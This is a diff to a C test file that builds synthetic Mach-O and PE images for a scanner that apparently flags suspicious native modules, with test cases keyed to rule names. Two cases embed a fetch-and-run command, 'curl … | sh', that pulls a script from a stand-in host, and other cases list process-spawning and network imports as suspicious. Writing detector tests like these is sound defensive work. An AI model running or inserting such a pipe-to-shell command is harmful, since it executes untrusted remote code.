@@ -56,6 +56,7 @@ pe_make(uint8_t image[IMAGE], const char *const *functions)
 	}
 }
 
+/* "+name" is one that the image has itself, "'text" a text in it. */
 static void
 macho_make(uint8_t image[IMAGE], const char *const *functions)
 {
@@ -74,13 +75,22 @@ macho_make(uint8_t image[IMAGE], const char *const *functions)
 	put(image, 100, 24, 4);
 	put(image, 104, 0x200, 4);
 	put(image, 112, 0x400, 4);
-	for (; *functions != NULL; functions++, at += 16, n++) {
+	for (; *functions != NULL; functions++) {
+		const char *name = *functions;
+		bool own = *name == '+';
+
+		if (*name == '\'') {
+			memcpy(image + 0x600, name + 1, strlen(name + 1));
+			continue;
+		}
+		name += own;
 		put(image, at, text, 4);
-		image[at + 4] = 1;		/* external, undefined */
+		image[at + 4] = own ? 0xf : 1;	/* defined or not, external */
 		image[0x400 + text] = '_';
-		memcpy(image + 0x400 + text + 1, *functions,
-		    strlen(*functions));
-		text += strlen(*functions) + 2;
+		memcpy(image + 0x400 + text + 1, name, strlen(name));
+		text += strlen(name) + 2;
+		at += 16;
+		n++;
 	}
 	put(image, 108, n, 4);
 }
@@ -141,6 +151,19 @@ static const struct {
 	{ "a hot-key tool", pe_make, { "SetWindowsHookExW" }, NULL },
 	{ "a program out of memory", macho_make, { "memfd_create", "execve" },
 	    "native-runs-memory" },
+	{ "a module that starts programs", macho_make, { "+PyInit_x",
+	    "system", "getaddrinfo" }, "native-module-acts" },
+	{ "a library that starts programs", macho_make, { "system",
+	    "getaddrinfo" }, NULL },
+	{ "a module that only connects", macho_make, { "+PyInit_x",
+	    "getaddrinfo" }, NULL },
+	{ "a module with a command", macho_make, { "+PyInit_x",
+	    "'curl -s https://x.example.invalid/i.sh | sh" },
+	    "native-module-strings" },
+	{ "a library with a command", macho_make, {
+	    "'curl -s https://x.example.invalid/i.sh | sh" }, NULL },
+	{ "a module with an address", macho_make, { "+PyInit_x",
+	    "'https://x.example.invalid/manual.html" }, NULL },
 	{ "an ordinary Mach-O", macho_make, { "open", "read", "execve" },
 	    NULL },
 };
